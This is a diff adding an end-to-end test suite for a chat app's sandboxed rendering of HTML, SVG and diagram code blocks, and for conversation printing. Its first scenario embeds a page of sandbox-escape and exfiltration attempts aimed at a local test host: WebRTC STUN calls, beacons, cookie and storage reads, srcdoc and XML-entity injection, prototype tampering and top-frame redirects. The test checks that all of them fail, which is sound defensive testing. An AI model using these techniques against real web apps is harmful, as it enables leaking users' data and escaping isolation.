@@ -1,0 +1,266 @@
+// What a block of code contains, shown: pages in a frame that reaches nothing, pictures, diagrams. And a conversation, printed.
+
+import assert from 'node:assert/strict';
+import dgram from 'node:dgram';
+import { once } from 'node:events';
+import http from 'node:http';
+import * as behave from './support/behaviours.mjs';
+import { makeLong } from './support/long-conversation.mjs';
+import { shootAll } from './support/screenshots.mjs';
+import { closeServer } from './support/static-server.mjs';
+import { suite } from './support/suite.mjs';
+import { until } from './support/until.mjs';
+
+const scenario = suite({ missing: path => path.endsWith('.gguf') });
+
+/** Another host, over HTTP and UDP, which counts everything that it receives. */
+async function startOtherHost(t) {
+  const received = [];
+  const server = http.createServer((request, response) => {
+    received.push(request.url);
+    response.writeHead(200, { 'content-type': 'text/html', 'access-control-allow-origin': '*', 'cross-origin-resource-policy': 'cross-origin' });
+    response.end('<!doctype html>');
+  });
+  const socket = dgram.createSocket('udp4');
+  socket.on('message', message => received.push(`udp: ${message.length < 20 ? message : 'a packet'}`));
+  server.listen(0, '127.0.0.1');
+  socket.bind(0, '127.0.0.1');
+  await Promise.all([once(server, 'listening'), once(socket, 'listening')]);
+  t.after(() => closeServer(server));
+  t.after(() => socket.close());
+  return { received, origin: `http://127.0.0.1:${server.address().port}`, port: socket.address().port };
+}
+
+const block = (language, code) => `\`\`\`${language}\n${code}\n\`\`\``;
+const codes = chat => chat.get('message-text').last().locator('.code');
+const showButton = code => code.locator('[data-press="show"]');
+/** By keyboard: a press elsewhere could go to a frame. */
+const press = code => showButton(code).press('Enter');
+
+/** The innermost frame of a block. */
+const inside = code => code.frameLocator('iframe').frameLocator('iframe');
+
+async function replied(chat, server, ...blocks) {
+  await chat.open();
+  await chat.useEndpoint(server.endpoint(behave.reply(blocks.join('\n\n'))));
+  return chat.turn('Make one');
+}
+
+/** A page that tries everything that does not leave it, and notes what went wrong with each attempt. */
+const ATTACKS = ({ origin, port }) => `<!DOCTYPE html><html><head>
+<link rel="stylesheet" href="${origin}/sheet"><link rel="preconnect" href="${origin}"><link rel="prefetch" href="${origin}/prefetch">
+<link rel="preload" as="image" href="${origin}/preload"><link rel="modulepreload" href="${origin}/module"><link rel="icon" href="${origin}/icon">
+<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${origin}/rules"]}]}</script>
+<style>@import '${origin}/import'; @font-face { font-family: far; src: url(${origin}/font); } body { background: url(${origin}/background); font-family: far; }</style>
+</head><body><p id="rest">A page</p>
+<img src="${origin}/image" srcset="${origin}/set 2x"><video src="${origin}/film" poster="${origin}/poster"></video><script src="${origin}/script"></script>
+<svg><image href="${origin}/svg"/><use href="${origin}/use#a"/></svg><object data="${origin}/object"></object><embed src="${origin}/embed">
+<iframe src="${origin}/frame"></iframe><iframe srcdoc="<script>new RTCPeerConnection({iceServers:[{urls:'stun:127.0.0.1:${port}'}]}).createOffer()</script>"></iframe>
+<script>try { document.write('<if'); document.write('rame srcdoc="<script>1<' + '/script>">'); } catch (error) { window.pieces = error.name; }</script>
+<p>Lost to the tag that was begun</p>
+<script>
+const peer = "const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${port}' }] }); peer.createDataChannel('x'); peer.createOffer().then(offer => peer.setLocalDescription(offer));";
+const tried = { peerInPieces: window.pieces };
+const attempt = async (name, act) => {
+  try {
+    tried[name] = 'done: ' + (await act());
+  } catch (error) {
+    tried[name] = error.name;
+  }
+};
+const child = () => document.body.appendChild(document.createElement('iframe'));
+const page = '${origin}';
+const all = {
+  fetch: () => fetch(page + '/fetch'),
+  kept: () => fetch(page + '/kept', { keepalive: true, mode: 'no-cors' }),
+  beacon: () => navigator.sendBeacon(page + '/beacon'),
+  request: () => new Promise((resolve, reject) => { const x = new XMLHttpRequest(); x.onerror = () => reject(new Error()); x.onload = resolve; x.open('GET', page + '/request'); x.send(); }),
+  socket: () => new Promise((resolve, reject) => { const s = new WebSocket(page.replace('http', 'ws')); s.onopen = resolve; s.onerror = () => reject(new Error()); }),
+  events: () => new Promise((resolve, reject) => { const s = new EventSource(page + '/events'); s.onopen = resolve; s.onerror = () => reject(new Error()); }),
+  module: () => import(page + '/import.mjs'),
+  worker: () => new Promise((resolve, reject) => { const w = new Worker(URL.createObjectURL(new Blob(["postMessage(1); fetch('" + page + "/worker')"]))); w.onmessage = resolve; w.onerror = () => reject(new Error()); }),
+  picture: () => new Promise((resolve, reject) => { const i = new Image(); i.onload = resolve; i.onerror = () => reject(new Error()); i.src = page + '/picture'; }),
+  peer: () => new Function(peer)(),
+  peerInChild: () => child().contentWindow.RTCPeerConnection,
+  peerInText: () => { const f = document.createElement('iframe'); f.srcdoc = '<script>' + peer + '<' + '/script>'; document.body.append(f); },
+  peerInAttribute: () => { const f = document.createElement('iframe'); f.setAttribute('srcdoc', '<script>' + peer + '<' + '/script>'); document.body.append(f); },
+  peerInMarkup: () => { const d = document.createElement('div'); document.body.append(d); d.innerHTML = '<' + 'iframe srcdoc="<script>' + peer + '<' + '/script>">'; },
+  peerInXml: () => document.body.append(document.importNode(new DOMParser().parseFromString('<!DOCTYPE a [<!ENTITY f "&#60;iframe xmlns=\\'http://www.w3.org/1999/xhtml\\' srcdoc=\\'&#38;lt;script>1&#38;lt;/script>\\'/>">]><a>&f;</a>', 'application/xml').documentElement.firstChild, true)),
+  changedBuiltIns: () => { String.prototype.indexOf = () => -1; String.prototype.toLowerCase = () => ''; Reflect.apply = () => -1; const d = document.createElement('div'); d.innerHTML = '<' + 'iframe srcdoc="<script>' + peer + '<' + '/script>">'; document.body.append(d); },
+  storage: () => localStorage.length,
+  tab: () => sessionStorage.length,
+  cookies: () => document.cookie,
+  database: () => indexedDB.open('x'),
+  caches: () => caches.keys(),
+  serviceWorker: () => navigator.serviceWorker.register('/sw.js'),
+  around: () => parent.document.title,
+  page: () => top.document.title,
+  leaveAround: () => { parent.location = page + '/around'; },
+  leavePage: () => { top.location = page + '/page'; },
+  window: () => open(page + '/window').closed,
+  clipboard: () => navigator.clipboard.readText(),
+  place: () => new Promise((resolve, reject) => navigator.geolocation.getCurrentPosition(resolve, reject)),
+  policy: () => trustedTypes.createPolicy('default', { createHTML: text => text }),
+};
+(async () => {
+  for (const name in all) await attempt(name, all[name]);
+  const code = child();
+  code.src = 'javascript:' + encodeURIComponent(peer);
+  for (const attributes of [{}, { target: '_blank' }, { target: '_top' }, { download: 'x' }]) Object.assign(document.body.appendChild(document.createElement('a')), attributes, { href: page + '/download', ping: page + '/ping' });
+  const form = document.body.appendChild(document.createElement('form'));
+  form.action = page + '/form';
+  form.submit();
+  // Lies to the page: nobody listens to them.
+  for (const message of [{ svg: '<svg/>' }, { wrong: 'x' }, 'take over']) top.postMessage(message, '*');
+  document.body.dataset.tried = JSON.stringify(tried);
+})();
+</script></body></html>`;
+
+/** Pages that leave, each in its own way. */
+const LEAVING = origin => [
+  `<script>location = '${origin}/location?said=everything'</script>`,
+  `<meta http-equiv="refresh" content="0; url=${origin}/refresh">`,
+  `<a href="${origin}/link" ping="${origin}/ping">x</a><script>document.querySelector('a').click()</script>`,
+];
+
+scenario('a page of a reply runs beside its code and reaches nothing: no network, no storage, not the page', async ({ t, chat, server, origin }) => {
+  const other = await startOtherHost(t);
+  const leaving = LEAVING(other.origin);
+  // Neither may it open the page itself in its frame.
+  await replied(chat, server, block('html', ATTACKS(other)), ...leaving.map(code => block('html', code)), block('html', `<script>location = '${origin}/?db=x'</script>`));
+  const address = chat.page.url();
+  assert.equal(await chat.page.locator('iframe').count(), 0, 'nothing is shown by itself');
+  await press(codes(chat).first());
+  const body = inside(codes(chat).first()).locator('body');
+  await until('it has tried everything', () => body.getAttribute('data-tried'), 60_000);
+  const tried = JSON.parse(await body.getAttribute('data-tried'));
+  // An empty child frame exists, but its contents are out of reach; the rest fails where it begins.
+  const succeeded = Object.entries(tried).filter(([name, how]) => how.startsWith('done') && !/^(beacon|leave\w+|window)$/.test(name));
+  assert.deepEqual(succeeded, []);
+  assert.equal(tried.peer, 'ReferenceError', 'WebRTC is gone');
+  for (const name of ['peerInText', 'peerInAttribute', 'peerInMarkup', 'peerInPieces', 'peerInXml', 'changedBuiltIns']) assert.equal(tried[name], 'TypeError', name);
+  for (const name of ['storage', 'tab', 'cookies', 'around', 'page', 'peerInChild']) assert.equal(tried[name], 'SecurityError', name);
+  assert.equal(await body.locator('#rest').innerText(), 'A page', 'the rest of it works');
+
+  const blocked = () => chat.problems.filter(problem => /^securitypolicyviolation: frame-src /.test(problem)).length;
+  for (let at = 1; at <= leaving.length + 1; at += 1) {
+    const before = blocked();
+    await press(codes(chat).nth(at));
+    await until(`attempt ${at} to leave is blocked`, () => blocked() > before);
+  }
+  assert.equal(chat.page.url(), address);
+  assert.equal(chat.page.context().pages().length, 1);
+  // The counters count.
+  const control = dgram.createSocket('udp4');
+  control.send('control', other.port, '127.0.0.1');
+  await fetch(`${other.origin}/control`);
+  await until('the other host received the last message', () => other.received.includes('udp: control'));
+  control.close();
+  assert.deepEqual(other.received.toSorted(), ['/control', 'udp: control'], 'nothing else arrived there');
+  chat.problems.length = 0;
+});
+
+scenario('a page that never ends is stopped by its button, and its height and code are at hand', async ({ chat, server }) => {
+  const page = `<!doctype html><title>Clock</title><body style="font-family: sans-serif"><h1>A clock</h1><button onclick="this.textContent = 'Pressed'">Press</button>`;
+  await replied(chat, server, block('html', page), block('html', `<p>Endless</p><script>top.postMessage('begun', '*'); setTimeout(() => { for (;;); });</script>`), block('xml', '<rss/>'), block('js', 'html()'));
+  assert.equal(await showButton(codes(chat).nth(2)).count() + (await showButton(codes(chat).nth(3)).count()), 0, 'other code is not offered');
+  const first = codes(chat).first();
+  await press(first);
+  await inside(first).getByRole('button', { name: 'Press' }).click();
+  await inside(first).getByRole('button', { name: 'Pressed' }).waitFor();
+  assert.equal(await first.locator('pre').isVisible(), false);
+  const titles = [await first.locator('iframe').getAttribute('title'), await first.frameLocator('iframe').locator('iframe').getAttribute('title')];
+  assert.deepEqual(titles, ['Page from the message', 'Page from the message']);
+  const grip = first.getByRole('separator');
+  const height = async () => Number(await grip.getAttribute('aria-valuenow'));
+  const before = await height();
+  await grip.press('ArrowDown');
+  assert.equal(await height(), before + 40);
+  await grip.scrollIntoViewIfNeeded();
+  const box = await grip.boundingBox();
+  await chat.page.mouse.move(box.x + 50, box.y + 5);
+  await chat.page.mouse.down();
+  // The frame, which has a process of its own, takes moves until it is known that they are not for it.
+  let x = 50;
+  await until('it follows the pointer', async () => {
+    await chat.page.mouse.move(box.x + (x += 1), box.y - 55);
+    return (await height()) === before - 20;
+  });
+  await chat.page.mouse.up();
+  await shootAll(chat.page, 'shown-page');
+  await press(first);
+  await first.locator('pre').waitFor();
+  assert.equal(await chat.page.locator('iframe').count(), 0);
+
+  const begun = chat.page.evaluate(() => new Promise(resolve => addEventListener('message', event => resolve(event.data), { once: true })));
+  await press(codes(chat).nth(1));
+  assert.equal(await begun, 'begun');
+  await press(codes(chat).nth(1));
+  await until('it is gone', () => chat.page.frames().length === 1);
+  assert.match(await codes(chat).nth(1).locator('pre').innerText(), /Endless/);
+});
+
+const DIAGRAM = 'graph TD\n  A[Question] --> B{Known?}\n  B -->|yes| C[Answer]\n  B -->|no| D["Ask <b>again</b>"]';
+
+scenario('pictures and diagrams are images; a wrong one says so and its code stays', async ({ chat, server, served }) => {
+  const attack = `<svg viewBox="0 0 40 40"><script>top.taken = true</script><rect width="40" height="40" fill="teal" onload="top.taken = true"/></svg>`;
+  const before = served.length;
+  await replied(chat, server, block('svg', attack), block('svg', '<svg><g></svg>'), block('mermaid', DIAGRAM), block('mermaid', 'graph TD\n  A --> --> B'));
+  const loaded = () => served.slice(before).filter(({ path }) => path.includes('/vendor/mermaid/')).length;
+  const code = at => codes(chat).nth(at);
+  const picture = at => code(at).locator('.shown > img');
+  await press(code(0));
+  await picture(0).waitFor();
+  assert.equal(await picture(0).evaluate(image => image.naturalWidth > 0), true);
+  assert.equal(await chat.page.evaluate(() => window.taken), undefined);
+  await press(code(1));
+  await code(1).locator('.trouble').waitFor();
+  assert.equal(loaded(), 0, 'Mermaid is loaded for a diagram only');
+  await press(code(2));
+  await picture(2).waitFor();
+  assert.equal(await picture(2).getAttribute('alt'), 'Diagram from the message');
+  assert.ok((await picture(2).boundingBox()).height > 100, 'it has its own size');
+  await press(code(3));
+  await code(3).locator('.trouble').waitFor();
+  assert.match(await code(3).locator('.trouble').innerText(), /could not be drawn\. .*Parse error/);
+  assert.ok(await code(3).locator('pre').isVisible());
+  assert.equal(loaded(), 1, 'once');
+  assert.equal(await chat.page.locator('iframe').count(), 0, 'its frame does not stay');
+  const light = await picture(2).elementHandle();
+  await chat.page.emulateMedia({ colorScheme: 'dark' });
+  await until('it is drawn again in dark colours', async () => !(await light.evaluate(image => image.isConnected)));
+  await picture(2).waitFor();
+  await shootAll(chat.page, 'shown-diagram');
+});
+
+scenario('a conversation is printed as a whole, without what is not to be read', async ({ chat, context, server }) => {
+  // The frame that is printed runs no scripts. Its dialog is opened from outside.
+  await context.addInitScript(() => {
+    const { get } = Object.getOwnPropertyDescriptor(HTMLIFrameElement.prototype, 'contentWindow');
+    Object.defineProperty(HTMLIFrameElement.prototype, 'contentWindow', {
+      get() {
+        const inner = get.call(this);
+        if (this.sandbox.contains('allow-modals')) inner.print = () => { top.printed = { text: inner.document.body.innerText, html: inner.document.documentElement.outerHTML, inner }; };
+        return inner;
+      },
+    });
+  });
+  await replied(chat, server, 'Hello.');
+  await makeLong(chat, 300);
+  await chat.open();
+  const item = chat.page.locator('li.conversation').first();
+  await item.hover();
+  await item.getByTestId('conversation-more').click();
+  await chat.get('conversation-print').click();
+  const { text, html } = await until('it is printed', () => chat.page.evaluate(() => window.printed && { text: window.printed.text, html: window.printed.html }));
+  assert.deepEqual([0, 150, 299].map(number => text.includes(`Message ${number}.`)), [true, true, true]);
+  assert.doesNotMatch(html, /<(button|script|input)/);
+  await chat.page.evaluate(() => window.printed.inner.dispatchEvent(new Event('afterprint')));
+  await until('its frame is gone', async () => (await chat.page.locator('iframe').count()) === 0);
+  const paper = await context.newPage();
+  await paper.setContent(html);
+  await paper.emulateMedia({ media: 'print', colorScheme: 'dark' });
+  assert.equal(await paper.evaluate(() => getComputedStyle(document.body).color), 'rgb(27, 34, 32)', 'dark text, whatever the screen');
+  assert.equal(await paper.evaluate(() => getComputedStyle(document.body).backgroundColor), 'rgb(255, 255, 255)');
+  await shootAll(paper, 'printed');
+});
